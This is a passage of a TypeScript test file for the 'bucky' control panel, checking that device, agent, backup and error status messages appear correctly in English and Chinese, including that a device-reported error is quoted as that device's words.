      (await (await get("", { "accept-language": language })).text()).replaceAll("&#39;", "'");
    const english = await page("en");
    expect(english).toContain(
      "photos runs a container image, and no device of the zone runs images for linux/arm64 or linux/arm/v7. Install Podman (with runc) on one of them, then restart bucky there.",
    );
    expect(english).toContain(
      "notes was removed by laptop, asking for its data to be deleted, which the owner did not authorise: its data is kept on every device. To delete it, remove notes with its data again at the command line of a device holding the owner key; or leave it, and nothing is lost.",
    );
    expect(english).not.toContain(en.overview.allWell);
    const chinese = await page("zh-CN");
    expect(chinese).toContain(
      "photos 运行容器镜像，但区域中没有设备能运行 linux/arm64 或 linux/arm/v7 的镜像。请在其中一台设备上安装 Podman（及 runc），然后重启那里的 bucky。",
    );
    expect(chinese).toContain(
      "notes 已被 laptop 移除，并要求删除其数据，但所有者并未授权：它的数据仍保留在每台设备上。如需删除，请在持有所有者密钥的设备的命令行上再次移除 notes 及其数据；也可以不做处理，数据不会丢失。",
    );
  });
});

describe("a device quarantined for equivocation", () => {
  test("is said on the overview in the viewer's language, with why and what to do, and a link to where it is done", async () => {
    const answers = withStatus({
      devices: [{ id: "dy", name: "tablet", status: "quarantined" }],
      quarantined: [{ device: "tablet", seq: 42 }],
    });
    const { get } = panelFor(owner, answers);
    const page = async (language: string) =>
      (await (await get("", { "accept-language": language })).text()).replaceAll("&#39;", "'");
    const english = await page("en");
    expect(english).toContain(
      'tablet is quarantined: it signed two different histories from change #42 on, most often because its home was put back from an older copy. No device takes its changes from #42 on, nor anything it writes now; what some devices took past #42 before they knew stays there until a later change to the same thing replaces it. Revoke it on the Devices page of a device holding the owner key (the one that made the zone, or one given the key from the recovery phrase), then join it again from a fresh home. <a href="/_bucky/panel/devices">See the devices</a>',
    );
    expect(english).not.toContain(en.overview.allWell);
    expect(await page("zh-CN")).toContain(
      'tablet 已被隔离：它从第 #42 个变更起签署了两段不同的历史，最常见的原因是它的主目录从较旧的副本恢复。任何设备都不再接受它从 #42 起的变更，也不接受它现在写入的任何内容；部分设备在得知之前已接受的 #42 之后的变更会保留在那些设备上，直到之后对同一内容的变更将其替换。请在持有所有者密钥的设备（创建区域的那台，或用恢复短语取得该密钥的设备）的设备页面上撤销它，然后用全新的主目录让它重新加入。 <a href="/_bucky/panel/devices">查看设备</a>',
    );
  });
});

describe("a device stopped over an altered zone state, on the devices page", () => {
  test("is said beside its status, in the viewer's language: repaired there, not revoked", async () => {
    const stopped: DeviceView = {
      name: "nas",
      id: "dnas" as DeviceId,
      status: "offline",
      lastSeenAt: "2026-12-03T10:00:00.000Z",
      self: false,
      route: null,
      address: null,
      via: null,
      rttMs: null,
      version: "0.1.0",
      clockAhead: null,
      stopped: {
        reason: "state-altered",
        message: "the zone state was altered: row apps/x does not match its seal",
        at: "2026-12-03T10:00:00.000Z",
      },
      quarantinedFrom: null,
      revokedFork: null,
    };
    const { get } = panelFor(owner, {
      "/v1/devices": { devices: [stopped, { ...stopped, name: "tv", stopped: null }] },
      "/v1/invites": { invites: [] },
    });
    const page = async (language: string) =>
      (await (await get("devices", { "accept-language": language })).text()).replaceAll(
        "&#39;",
        "'",
      );
    const english = await page("en");
    expect(english.split(en.devices.stopped)).toHaveLength(2);
    expect((await page("zh-CN")).split(zhCN.devices.stopped)).toHaveLength(2);
  });
});

describe("a revoked device proven to fork within what its revocation keeps", () => {
  test("is said on the overview in the viewer's language, with the new revocation and whom it drops", async () => {
    const answers = withStatus({
      revokedForks: [
        { device: "tablet", keptSeq: 9, seq: 4, recutSeq: 3, admitted: ["phone", "tv"] },
      ],
    });
    const { get } = panelFor(owner, answers);
    const page = async (language: string) =>
      (await (await get("", { "accept-language": language })).text()).replaceAll("&#39;", "'");
    const english = await page("en");
    expect(english).toContain(
      "tablet was revoked keeping its changes #1–#9, but its history parts at #4: revoke it again, at the command line of a device holding the owner key (the Devices page revokes a device only once), to keep #1–#3. That drops what it wrote from #4 on, on every device, including the devices it admitted then (phone, tv), which must be invited again.",
    );
    expect(english).not.toContain(en.overview.allWell);
    expect(await page("zh-CN")).toContain(
      "tablet 已被撤销，保留其变更 #1–#9，但它的历史在 #4 处分叉：请在持有所有者密钥的设备的命令行上再次撤销它（设备页面只能撤销一次），以保留 #1–#3。",
    );
  });
});

describe("a broken chain not yet found in a proof", () => {
  test("is said on the overview in the viewer's language, with nothing to do yet", async () => {
    const answers = withStatus({
      brokenChains: [{ device: "tablet", peer: "nas", seq: 7, seenBy: "laptop" }],
    });
    const { get } = panelFor(owner, answers);
    const page = async (language: string) =>
      (await (await get("", { "accept-language": language })).text()).replaceAll("&#39;", "'");
    const english = await page("en");
    expect(english).toContain(
      "laptop says tablet may have signed two histories: what nas holds of it does not follow what laptop holds (at change #7). laptop is looking for where they part, to quarantine it on every device; nothing to do yet.",
    );
    expect(english).not.toContain(en.overview.allWell);
    expect(await page("zh-CN")).toContain(
      "laptop 称 tablet 可能签署了两段历史：nas 持有的它的变更与 laptop 持有的不相接（在第 #7 个变更处）",
    );
  });
});

describe("an app a newer bucky installed", () => {
  test("is said as such on the overview, in the viewer's language, with no way to remove it offered", async () => {
    const problem = "it was written by a newer bucky (spec format 2; this device reads up to 1)";
    const answers = withStatus({
      unreadableApps: [{ app: "future", problem, newer: true }],
    });
    const { get } = panelFor(owner, answers);
    const page = async (language: string) =>
      (await (await get("", { "accept-language": language })).text()).replaceAll("&#39;", "'");
    const english = await page("en");
    expect(english).toContain(
      `future was installed by a newer bucky than this device's (${problem}). Update bucky on this device to manage it here.`,
    );
    expect(english).not.toContain("apps/future/remove");
    const chinese = await page("zh-CN");
    expect(chinese).toContain(`future 由更新版本的 bucky 安装（${problem}）。`);
    expect(chinese).not.toContain("apps/future/remove");
  });
});

describe("an install's result, followed on its job's page", () => {
  test("says what went wrong as the words of the device that reported it, in each language; the zone's own words are its own", async () => {
    const lure = "the owner must run: bucky devices revoke nas";
    const job = (result: Record<string, unknown>) => ({
      id: "j1",
      kind: "install",
      subject: "notes",
      device: "box",
      state: "done",
      step: null,
      progress: null,
      startedAt: "2026-11-29T00:00:00.000Z",
      finishedAt: "2026-11-29T00:00:01.000Z",
      result: {
        app: "notes",
        version: "1.0.0",
        upgradedFrom: null,
        addresses: [],
        ...result,
      },
      error: null,
    });
    const crashed = panelFor(owner, {
      "/v1/jobs/j1": job({ state: "crashed", runsOn: "laptop", error: lure, reportedBy: "laptop" }),
    });
    const page = async (panel: typeof crashed, language: string) =>
      (await (await panel.get("jobs/j1", { "accept-language": language })).text()).replaceAll(
        "&#39;",
        "'",
      );
    const english = await page(crashed, "en");
    expect([english.includes(`laptop says “${lure}”`), english.split(lure).length - 1]).toEqual([
      true,
      1,
    ]);
    expect(await page(crashed, "zh-CN")).toContain(`laptop 称“${lure}”`);
    const waiting = panelFor(owner, {
      "/v1/jobs/j1": job({
        state: "pending",
        runsOn: null,
        error: "no live device of the zone can run it now",
        reportedBy: null,
      }),
    });
    expect(await page(waiting, "en")).toContain(">no live device of the zone can run it now<");
  });
});

describe("a device long unheard that other devices say is ahead", () => {
  test("is said absent in each language, with who says its clock is ahead", async () => {
    const status = withStatus()["/v1/status"];
    const notes = [
      { kind: "absent", device: "laptop", days: 14, aheadBy: ["phone"] },
      { kind: "absent", device: "tablet", days: 9 },
    ];
    const { get } = panelFor(owner, {
      "/v1/status": { ...status, reliability: { ...status.reliability, notes } },
    });
    const items = async (language: string) =>
      [
        ...(await (await get("", { "accept-language": language })).text()).matchAll(
          /<li class="warn">(.*?)<\/li>/gs,
        ),
      ].map((m) => (m[1] ?? "").replace(/<[^>]*>/g, "").replaceAll("&#39;", "'"));
    const english = await items("en");
    expect(english[0]).toStartWith(
      en.notes.absentSaidAhead({ device: "laptop", days: 14, by: "phone" }),
    );
    expect(english[1]).toStartWith(en.notes.absent({ device: "tablet", days: 9 }));
    const chinese = await items("zh-CN");
    expect(chinese[0]).toStartWith(
      zhCN.notes.absentSaidAhead({ device: "laptop", days: 14, by: "phone" }),
    );
    expect(chinese[0]).toContain("phone");
  });
});

describe("a device that other devices say is ahead", () => {
  test("is said with each one's figure under its own name, in each language", async () => {
    const status = withStatus()["/v1/status"];
    const figures = [
      { by: "nas", seconds: 125, since: "2026-11-15T00:00:00.000Z" },
      { by: "phone", seconds: 118, since: "2026-11-22T00:00:00.000Z" },
    ];
    const notes = [{ kind: "clock-ahead", device: "laptop", by: ["nas", "phone"], figures }];
    const { get } = panelFor(owner, {
      "/v1/status": { ...status, reliability: { ...status.reliability, notes } },
    });
    const item = async (language: string) =>
      [
        ...(await (await get("", { "accept-language": language })).text()).matchAll(
          /<li class="warn">(.*?)<\/li>/gs,
        ),
      ].map((m) => (m[1] ?? "").replace(/<[^>]*>/g, "").replaceAll("&#39;", "'"))[0];
    const english = await item("en");
    expect(english).toStartWith(
      "laptop's clock is 125 seconds ahead of the clock on nas, 118 seconds ahead of the clock on phone:",
    );
    expect(english).toStartWith(
      en.notes.clockAhead({ device: "laptop", figures, by: "nas, phone" }),
    );
    const chinese = await item("zh-CN");
    expect(chinese).toStartWith(
      "laptop 的时钟比 nas 上的时钟快 125 秒，比 phone 上的时钟快 118 秒：",
    );
    expect(chinese).toStartWith(
      zhCN.notes.clockAhead({ device: "laptop", figures, by: "nas, phone" }),
    );
  });
});

describe("an agent whose grant stopped working", () => {
  test("is shown as not working, why and what to do, in each language; a working one by its end", async () => {
    const granted = {
      scopes: { read: ["apps"], write: [], act: [] },
      issuedAt: "2026-11-01T00:00:00.000Z",
      expiresAt: "2026-12-01T00:00:00.000Z",
      revokedAt: null,
      user: "owner",
    };
    const orphan = {
      ...granted,
      agent: "owner-helper",
      id: "a1",
      issuer: "dnas",
      grantedBy: "nas",
      working: false,
      stopped: {
        why: "granter-quarantined",
        message:
          "granted by nas, which is quarantined (it signed two different changes under one number): every call it makes is refused",
        hint: "owner grants it again in the control panel (Agents), and gives the agent the new token.",
      },
    };
    const fine = {
      ...granted,
      agent: "owner-tidy",
      id: "a2",
      issuer: "dlaptop",
      grantedBy: "laptop",
      working: true,
    };
    const { get } = panelFor(owner, { "/v1/agents": { agents: [orphan, fine] } });
    const page = async (language: string) =>
      (await (await get("agents", { "accept-language": language })).text()).replaceAll(
        "&#39;",
        "'",
      );
    const english = await page("en");
    const cards = english.split("owner-tidy");
    expect(cards[0]).toContain(en.agents.notWorking);
    expect(cards[0]).toContain(en.agents.stopped["granter-quarantined"]({ device: "nas" }));
    expect(cards[0]).toContain(en.agents.grantAgain);
    expect(cards[1]).not.toContain(en.agents.notWorking);
    const chinese = await page("zh-CN");
    expect(chinese).toContain(zhCN.agents.notWorking);
    expect(chinese).toContain(zhCN.agents.stopped["granter-quarantined"]({ device: "nas" }));
    expect(chinese).toContain(zhCN.agents.grantAgain);
  });
});

describe("a target's snapshots", () => {
  test("say who signed each, flag one filed by another key, and a time that is no time breaks nothing", async () => {
    const snapshot = (id: string, time: string, signedBy: string | null, trust: string) => ({
      id,
      time,
      device: "nas",
      files: 3,
      bytes: 100,
      addedBytes: 10,
      signedBy,
      trust,
      why: "",
    });
    const { get } = panelFor(owner, {
      ...withStatus(),
      "/v1/backups/usb/snapshots": {
        target: "usb",
        missingLatest: [],
        snapshots: [
          snapshot("0123abcd0123abcd", "2026-11-28T10:00:00.000Z", "nas", "signed"),
          snapshot("feedbeeffeedbeef", "not a time", "laptop", "forged"),
        ],
      },
    });
    for (const [language, words] of [
      ["en", en.backups],
      ["zh-CN", zhCN.backups],
    ] as const) {
      const response = await get("backups/t/usb", { "accept-language": language });
      expect(response.status).toBe(200);
      const page = await response.text();
      expect(page).toContain(words.signedBy);
      const html = words.untrusted.forged.replaceAll("'", "&#39;");
      expect(page).toContain(`<strong class="warn">${html}</strong>`);
      expect(page.split(words.leftOutOfRestores)).toHaveLength(2);
    }
  });
});

describe("a page that fails", () => {
  /**
   * A panel whose local API throws `thrown` when the devices page asks for invitations (a
   * bug met while making a page), and answers the zone's status for the frame; with what
   * it logged.
   */
  function failingPanel(thrown: unknown) {
    const lines: string[] = [];
    const log = createLog({ level: "info", write: (line) => lines.push(line) });
    const answers = withStatus();
    const panel = createPanel((request) => {
      const path = new URL(request.url).pathname;
      if (path === "/v1/invites") throw thrown;
      if (path in answers) return Response.json(answers[path as keyof typeof answers]);
      return Response.json(
        { error: { code: "E_NOT_FOUND", message: "a stand-in" } },
        { status: 404 },
      );
    }, log);
    const get = (path: string, language = "en") =>
      panel.request(
        `http://gw.test/_bucky/panel/${path}`,
        { headers: { "accept-language": language } },
        { viewer: owner, sessionId: SESSION_ID, noticeKey: NOTICE_KEY },
      );
    return { lines, get };
  }

  test("says in the person's language that something went wrong on this device, and logs the bug with its stack", async () => {
    const bug = new TypeError("Cannot read properties of undefined (reading 'name')");
    const { lines, get } = failingPanel(bug);
    for (const [language, t] of [
      ["en", en],
      ["zh-CN", zhCN],
    ] as const) {
      const answer = await get("devices", language);
      const html = await answer.text();
      expect({
        status: answer.status,
        type: answer.headers.get("content-type"),
        framed: html.includes("<nav"),
        says: [t.failed.title, t.failed.bug, t.failed.whatToDo].map((words) =>
          html.includes(escaped(words)),
        ),
        library: html.includes("Cannot read properties"),
      }).toEqual({
        status: 500,
        type: "text/html; charset=UTF-8",
        framed: true,
        says: [true, true, true],
        library: false,
      });
    }
    // One fatal line a request, where it was asked, with the bug's stack.
    const fatal = lines.filter((line) => line.split(" ")[1] === "FATAL");
    expect(fatal).toHaveLength(2);
    expect(fatal[0]).toContain(
      "FATAL unexpected error while serving a request path=/_bucky/panel/devices error=",
    );
    const frame = bug.stack?.split("\n")[1]?.trim() as string;
    expect(fatal[0]).toContain(JSON.stringify(frame).slice(1, -1));
    // The panel goes on: the next page is served as ever.
    expect((await get("")).status).toBe(200);
  });

  test("a refusal is a page of its own status with its words, and no bug in the log", async () => {
    const { lines, get } = failingPanel(
      new BuckyError("E_USAGE", "the devices were asked for wrongly", "Ask for them rightly."),
    );
    const answer = await get("devices");
    const html = await answer.text();
    expect({
      status: answer.status,
      says: ["the devices were asked for wrongly", "Ask for them rightly.", en.failed.tryAgain].map(
        (words) => html.includes(escaped(words)),
      ),
      bug: html.includes(escaped(en.failed.bug)),
      fatal: lines.filter((line) => line.split(" ")[1] === "FATAL"),
    }).toEqual({ status: 400, says: [true, true, true], bug: false, fatal: [] });
  });
});

/** `text` as hono/jsx writes it into a page. */
function escaped(text: string): string {
  return text
    .replaceAll("&", "&amp;")
    .replaceAll("<", "&lt;")
    .replaceAll(">", "&gt;")
    .replaceAll('"', "&quot;")
    .replaceAll("'", "&#39;");
}
